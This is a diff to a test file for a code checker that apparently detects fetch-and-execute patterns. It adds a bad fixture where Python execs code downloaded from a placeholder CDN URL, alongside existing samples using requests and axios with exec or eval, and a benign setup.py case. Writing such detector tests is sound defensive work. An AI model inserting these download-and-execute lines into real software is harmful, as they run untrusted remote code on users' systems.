@@ -35,10 +35,22 @@ export const check: FileCheck = {
         'boot.py': 'import requests\ncode = requests.get("https://cdn.example.net/p").text\n«exec(code)»\n',
       },
       {
+        'boot.py':
+          'import aiohttp\n«exec(open("own.py").read() + __import__("httpx").get("https://cdn.example.net/p").text)»\n',
+      },
+      {
         'load.js': "const axios = require('axios');\naxios.get(url).then((res) => {\n  «eval(res.data)»;\n});\n",
       },
     ],
     good: [
+      {
+        'setup.py': `
+          from setuptools import setup
+          about = {}
+          with open('aiohttp/version.py') as file:
+              exec(file.read(), about)
+          setup(name='x', version=about['version'])`,
+      },
       { 'calc.py': 'value = eval("1 + 1")\n' },
       { 'ask.py': 'program = "import requests; r = requests.get(\'https://example.com\')"\nexec(program)\n' },
       {
